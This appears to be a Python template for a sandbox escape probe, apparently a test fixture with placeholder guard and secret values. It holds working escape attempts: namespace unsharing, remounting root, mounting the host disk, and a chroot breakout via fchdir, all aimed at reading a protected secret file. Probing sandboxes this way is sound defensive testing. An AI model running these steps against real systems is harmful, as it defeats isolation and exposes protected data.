@GUARD@
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
child = os.fork()
if child == 0:
    libc.unshare(0x10000000 | 0x00020000 | 0x20000000)
    for name, line in (("setgroups", "deny"), ("uid_map", "0 0 1"), ("gid_map", "0 0 1")):
        try:
            open(f"/proc/self/{name}", "w").write(line)
        except OSError:
            pass
    libc.mount(b"none", b"/", None, 0x4000 | 0x40000, None)
    libc.mount(b"proc", b"/proc", b"proc", 0, None)
    for kind in (b"ext4", b"xfs", b"overlay", b"tmpfs"):
        libc.mount(b"/dev/vda", b"/mnt", kind, 0, None)
    libc.mount(None, b"/", None, 0x20, None)
    libc.umount2(b"/", 2)
    for path in ("@SECRET@", "/mnt@SECRET@"):
        try:
            print(open(path).read())
        except OSError:
            pass
    os.mkdir("jail") if not os.path.isdir("jail") else None
    try:
        out = os.open("/", os.O_RDONLY)
        os.chroot("jail")
        os.fchdir(out)
        for _step in range(64):
            os.chdir("..")
        os.chroot(".")
        print(open("@SECRET@").read())
    except OSError:
        pass
    os._exit(0)
os.waitpid(child, 0)
for fd in range(3, 64):
    libc.setns(fd, 0)
